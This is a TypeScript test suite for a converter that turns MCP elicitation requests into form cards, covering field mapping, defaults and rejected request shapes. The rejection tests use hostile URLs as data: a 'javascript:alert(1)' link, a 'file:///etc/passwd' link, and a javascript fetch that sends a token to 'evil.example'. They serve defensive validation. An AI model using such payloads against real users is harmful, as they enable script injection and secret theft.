/**
 * Elicitation request → card: the spec's mapping table row by row, the newer MCP shapes the
 * protocol carries, what is declined and why, and the laws (one question per property, in request
 * order; supported schemas map; unsupported ones are declined with the expected reason).
 */
import * as E from 'fp-ts/lib/Either.js';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { elicitationToCard } from '../src/index.js';
import type { FormQuestion } from '../src/Card.js';
import {
  codexElicitationRequestParamsArbitrary,
  plainFormRequestArbitrary,
  supportedSchemaArbitrary,
  unsupportedSchemaArbitrary,
} from '../src/testing.js';
import { formCardOf } from './support.js';

const form = (properties: Record<string, unknown>, extra: Record<string, unknown> = {}): unknown => ({
  mode: 'form',
  message: 'm',
  requestedSchema: { type: 'object', properties, ...extra },
});
const questionOf = (property: unknown): FormQuestion => {
  const q = formCardOf(form({ k: property })).questions[0];
  if (q === undefined) throw new Error('no question');
  return q;
};
const reasonOf = (params: unknown): string => {
  const card = elicitationToCard(params);
  return E.isLeft(card) ? card.left._tag : 'mapped';
};

describe('the spec’s mapping table', () => {
  test('property key → question id; title → header; description → question', () => {
    expect(questionOf({ type: 'string', title: 'T', description: 'D' })).toMatchObject({ id: 'k', header: 'T', question: 'D' });
  });

  test('the question falls back to the title, then the key; the header falls back to the key', () => {
    expect(questionOf({ type: 'string', title: 'T' })).toMatchObject({ header: 'T', question: 'T' });
    expect(questionOf({ type: 'string' })).toMatchObject({ header: 'k', question: 'k' });
    expect(questionOf({ type: 'string', title: '  ', description: '' })).toMatchObject({ header: 'k', question: 'k' });
  });

  test('oneOf[].title → label, oneOf[].const → value', () => {
    expect(questionOf({ type: 'string', oneOf: [{ const: 'a', title: 'Alpha' }, { const: 'b', title: 'Beta', description: 'second' }] })).toMatchObject({
      answerType: 'singleChoice',
      options: [
        { label: 'Alpha', description: '' },
        { label: 'Beta', description: 'second' },
      ],
      values: ['a', 'b'],
    });
  });

  test('enumNames[] → labels, enum[] → values; a missing name falls back to the value', () => {
    expect(questionOf({ type: 'string', enum: ['a', 'b', 'c'], enumNames: ['Alpha', 'Beta'] })).toMatchObject({
      options: [{ label: 'Alpha' }, { label: 'Beta' }, { label: 'c' }],
      values: ['a', 'b', 'c'],
    });
    expect(questionOf({ type: 'string', enum: ['x', 'y'] })).toMatchObject({ options: [{ label: 'x' }, { label: 'y' }], values: ['x', 'y'] });
  });

  test('type: boolean → options true and false', () => {
    expect(questionOf({ type: 'boolean' })).toMatchObject({ answerType: 'boolean', options: [{ label: 'true' }, { label: 'false' }], values: [true, false] });
  });

  test('no option fields → a short text input (options null)', () => {
    expect(questionOf({ type: 'string' })).toMatchObject({ answerType: 'text', options: null });
    expect(questionOf({ title: 'No type at all' })).toMatchObject({ answerType: 'text', options: null });
  });

  test('required comes from the schema’s required list', () => {
    const card = formCardOf(form({ a: { type: 'string' }, b: { type: 'string' } }, { required: ['b', 'not-a-property'] }));
    expect(card.questions.map((q) => q.required)).toEqual([false, true]);
  });

  test('isOther and isSecret are always false', () => {
    for (const property of [{ type: 'string' }, { type: 'boolean' }, { enum: ['a'] }, { type: 'number' }]) {
      expect(questionOf(property)).toMatchObject({ isOther: false, isSecret: false });
    }
  });
});

describe('defaults', () => {
  test('the default option is the first one, or the one the schema’s default names', () => {
    expect(questionOf({ type: 'string', enum: ['a', 'b', 'c'] })).toMatchObject({ defaultIndex: 0 });
    expect(questionOf({ type: 'string', enum: ['a', 'b', 'c'], default: 'c' })).toMatchObject({ defaultIndex: 2 });
    expect(questionOf({ type: 'string', enum: ['a', 'b'], default: 'zzz' })).toMatchObject({ defaultIndex: 0 });
    expect(questionOf({ type: 'string', oneOf: [{ const: 'a', title: 'A' }, { const: 'b', title: 'B' }], default: 'b' })).toMatchObject({ defaultIndex: 1 });
  });

  test('a boolean defaults to true unless the schema says false', () => {
    expect(questionOf({ type: 'boolean' })).toMatchObject({ defaultIndex: 0 });
    expect(questionOf({ type: 'boolean', default: false })).toMatchObject({ defaultIndex: 1 });
    expect(questionOf({ type: 'boolean', default: 'false' })).toMatchObject({ defaultIndex: 0 });
  });

  test('text and number defaults are kept when they have the right type', () => {
    expect(questionOf({ type: 'string', default: 'hi' })).toMatchObject({ defaultValue: 'hi' });
    expect(questionOf({ type: 'string', default: 3 })).toMatchObject({ defaultValue: null });
    expect(questionOf({ type: 'integer', default: 3 })).toMatchObject({ defaultValue: 3 });
    expect(questionOf({ type: 'integer', default: 3.5 })).toMatchObject({ defaultValue: null });
    expect(questionOf({ type: 'number', default: 3.5 })).toMatchObject({ defaultValue: 3.5 });
  });
});

describe('the newer shapes of the protocol', () => {
  test('anyOf titled single select', () => {
    expect(questionOf({ type: 'string', anyOf: [{ const: 'a', title: 'A' }] })).toMatchObject({ answerType: 'singleChoice', values: ['a'] });
  });

  test('legacy titled enum without a type', () => {
    expect(questionOf({ enum: ['a'], enumNames: ['A'] })).toMatchObject({ answerType: 'singleChoice', options: [{ label: 'A' }] });
  });

  test('multi-select: items.enum (untitled) and items.anyOf (titled), with default and item counts', () => {
    expect(questionOf({ type: 'array', items: { type: 'string', enum: ['x', 'y', 'z'] }, default: ['z', 'x', 'nope'], minItems: 1, maxItems: 2 })).toMatchObject({
      answerType: 'multiChoice',
      options: [{ label: 'x' }, { label: 'y' }, { label: 'z' }],
      values: ['x', 'y', 'z'],
      defaultIndices: [0, 2],
      minItems: 1,
      maxItems: 2,
    });
    expect(questionOf({ type: 'array', items: { anyOf: [{ const: 'x', title: 'Ex' }, { const: 'y', title: 'Why' }] } })).toMatchObject({
      answerType: 'multiChoice',
      options: [{ label: 'Ex' }, { label: 'Why' }],
      values: ['x', 'y'],
      defaultIndices: [],
      minItems: null,
      maxItems: null,
    });
  });

  test('string format and length hints', () => {
    expect(questionOf({ type: 'string', format: 'email', minLength: 3, maxLength: 80 })).toMatchObject({ format: 'email', minLength: 3, maxLength: 80 });
    expect(questionOf({ type: 'string', format: 7, minLength: -1, maxLength: 'x' })).toMatchObject({ format: null, minLength: null, maxLength: null });
  });

  test('number and integer with minimum and maximum', () => {
    expect(questionOf({ type: 'integer', minimum: 1, maximum: 9 })).toMatchObject({ answerType: 'integer', options: null, minimum: 1, maximum: 9 });
    expect(questionOf({ type: 'number', minimum: 0.5 })).toMatchObject({ answerType: 'number', minimum: 0.5, maximum: null });
  });

  test('openai/form (and its openaiForm spelling) is rendered like form', () => {
    expect(formCardOf({ mode: 'openai/form', message: 'm', requestedSchema: { type: 'object', properties: {} } }).mode).toBe('openai/form');
    expect(formCardOf({ mode: 'openaiForm', message: 'm', requestedSchema: { type: 'object', properties: {} } }).mode).toBe('openai/form');
  });

  test('a plain MCP request without mode is a form', () => {
    expect(formCardOf({ message: 'm', requestedSchema: { type: 'object', properties: {} } })).toMatchObject({ mode: 'form', source: { serverName: null, threadId: null, turnId: null } });
  });
});

describe('submitOnSelect', () => {
  test('true exactly for a single single-choice or boolean question', () => {
    expect(formCardOf(form({ a: { type: 'boolean' } })).submitOnSelect).toBe(true);
    expect(formCardOf(form({ a: { enum: ['x'] } })).submitOnSelect).toBe(true);
    expect(formCardOf(form({ a: { type: 'array', items: { enum: ['x'] } } })).submitOnSelect).toBe(false);
    expect(formCardOf(form({ a: { type: 'string' } })).submitOnSelect).toBe(false);
    expect(formCardOf(form({ a: { type: 'boolean' }, b: { type: 'boolean' } })).submitOnSelect).toBe(false);
    expect(formCardOf(form({})).submitOnSelect).toBe(false);
  });
});

describe('declined shapes, with a reason a log can show', () => {
  test.each([
    ['missing properties', { mode: 'form', message: 'm', requestedSchema: { type: 'object' } }, 'MissingProperties'],
    ['missing requestedSchema', { mode: 'form', message: 'm' }, 'MissingProperties'],
    ['url mode with a javascript: link', { mode: 'url', message: 'm', url: 'javascript:alert(1)', elicitationId: 'e' }, 'UnsupportedUrl'],
    ['url mode with a file: link', { mode: 'url', message: 'm', url: 'file:///etc/passwd', elicitationId: 'e' }, 'UnsupportedUrl'],
    ['url mode without an elicitationId', { mode: 'url', message: 'm', url: 'https://example.com' }, 'InvalidRequest'],
    ['an unknown mode', { mode: 'carrier-pigeon', message: 'm' }, 'UnsupportedMode'],
    ['user verification', { mode: 'openai/userVerification', title: 't', description: 'd', challenge: 'c' }, 'UnsupportedMode'],
    ['a number enum', form({ n: { type: 'number', enum: [1, 2] } }), 'NonStringEnum'],
    ['a boolean enum', form({ n: { type: 'boolean', enum: [true] } }), 'NonStringEnum'],
    ['a number const', form({ n: { type: 'string', oneOf: [{ const: 1, title: 'One' }] } }), 'NonStringConst'],
    ['an object const', form({ n: { oneOf: [{ const: { a: 1 }, title: 'A' }] } }), 'NonStringConst'],
    ['a boolean const', form({ n: { oneOf: [{ const: true, title: 'Yes' }] } }), 'NonStringConst'],
    ['an object property', form({ n: { type: 'object', properties: {} } }), 'UnsupportedPropertyType'],
    ['a type list', form({ n: { type: ['string', 'null'] } }), 'UnsupportedPropertyType'],
    ['an array of numbers', form({ n: { type: 'array', items: { type: 'number' } } }), 'UnsupportedPropertyType'],
    ['string options on a number', form({ n: { type: 'number', enum: ['1'] } }), 'UnsupportedPropertyType'],
    ['an option without const', form({ n: { oneOf: [{ title: 'x' }] } }), 'UnsupportedOption'],
    ['no options', form({ n: { type: 'string', enum: [] } }), 'EmptyOptions'],
    ['params not an object', 'hello', 'InvalidRequest'],
    ['a property that is not an object', form({ n: 5 }), 'InvalidRequest'],
    ['oneOf not an array', form({ n: { oneOf: 'a' } }), 'InvalidRequest'],
    ['required not a string list', form({ n: { type: 'string' } }, { required: [1] }), 'InvalidRequest'],
    ['a message that is not a string', { mode: 'form', message: 1, requestedSchema: { type: 'object', properties: {} } }, 'InvalidRequest'],
    ['Codex params without serverName', { threadId: 't', mode: 'form', message: 'm', requestedSchema: { type: 'object', properties: {} } }, 'InvalidRequest'],
  ])('%s → %s', (_name, params, tag) => {
    expect(reasonOf(params)).toBe(tag);
  });

  test('InvalidRequest names the path, the expectation and what was there, without quoting free text', () => {
    const card = elicitationToCard(form({ 'my key': { type: 'string', oneOf: [{ const: 'a', title: 'A' }, 'secret-token-value'] } }));
    expect(card).toEqual(E.left(expect.objectContaining({ _tag: 'UnsupportedOption', key: 'my key', index: 1 })));
    const invalid = elicitationToCard({ serverName: 's', threadId: 't', message: 'secret-token-value', mode: 'form', requestedSchema: { type: 'object', properties: { port: 'secret-token-value' } } });
    expect(invalid).toEqual(
      E.left({
        _tag: 'InvalidRequest',
        path: 'params.requestedSchema.properties.port',
        expected: 'object',
        actual: 'a string (18 characters)',
        message: 'Invalid elicitation request: params.requestedSchema.properties.port: expected object, got a string (18 characters)',
      }),
    );
  });

  test('the messages say what is unsupported', () => {
    const card = elicitationToCard(form({ port: { type: 'number', enum: [80, 443] } }));
    expect(E.isLeft(card) && card.left.message).toBe('Unsupported elicitation: property "port" has an enum value that is not a string (only string enums are supported)');
    const mode = elicitationToCard({ mode: 'openai/userVerification', title: 't', description: 'd', challenge: 'c' });
    expect(E.isLeft(mode) && mode.left.message).toBe('Unsupported elicitation: mode "openai/userVerification" is not supported (use "form" or "url")');
    const url = elicitationToCard({ mode: 'url', message: 'm', url: 'javascript:fetch("https://evil.example/?secret-token-value")', elicitationId: 'e' });
    expect(E.isLeft(url) && url.left.message).toBe('Unsupported elicitation: url mode: scheme "javascript" is not offered (only https, or http on loopback)');
  });
});

describe('laws', () => {
  test('every supported schema yields one question per property, in request order, of the expected kind', () => {
    fc.assert(
      fc.property(supportedSchemaArbitrary, fc.boolean(), ({ requestedSchema, keys, expected }, withMode) => {
        const card = formCardOf({ ...(withMode ? { mode: 'form' } : {}), message: 'm', requestedSchema });
        expect(card.questions.map((q) => q.id)).toEqual(keys);
        expect(keys).toEqual(Object.keys(requestedSchema.properties));
        card.questions.forEach((q, i) => {
          const want = expected[i];
          expect(q.answerType).toBe(want?.answerType);
          expect(q.required).toBe(want?.required);
          expect('values' in q ? q.values : null).toEqual(want?.values);
        });
      }),
    );
  });

  test('plain MCP requests keep the plugin’s property order; Codex requests keep Codex’s (sorted) order', () => {
    fc.assert(
      fc.property(plainFormRequestArbitrary, ({ params, schema }) => {
        expect(formCardOf(params).questions.map((q) => q.id)).toEqual(schema.keys);
      }),
    );
    fc.assert(
      fc.property(codexElicitationRequestParamsArbitrary, ({ params, schema }) => {
        const card = formCardOf(params);
        expect(card.questions.map((q) => q.id)).toEqual(schema.keys);
        expect([...schema.keys].sort()).toEqual(schema.keys);
        expect(card.source.serverName).not.toBeNull();
      }),
    );
  });

  test('unsupported schemas are declined with the expected reason', () => {
    fc.assert(
      fc.property(unsupportedSchemaArbitrary, ({ requestedSchema, expectedTag }) => {
        expect(reasonOf({ mode: 'form', message: 'm', requestedSchema })).toBe(expectedTag);
      }),
    );
  });

  test('any mode other than form and openai/form is declined', () => {
    fc.assert(
      fc.property(
        fc.string().filter((mode) => !['form', 'openai/form', 'openaiForm'].includes(mode)),
        (mode) => {
          expect(reasonOf({ mode, message: 'm', requestedSchema: { type: 'object', properties: {} } })).toBe('UnsupportedMode');
        },
      ),
    );
  });
});
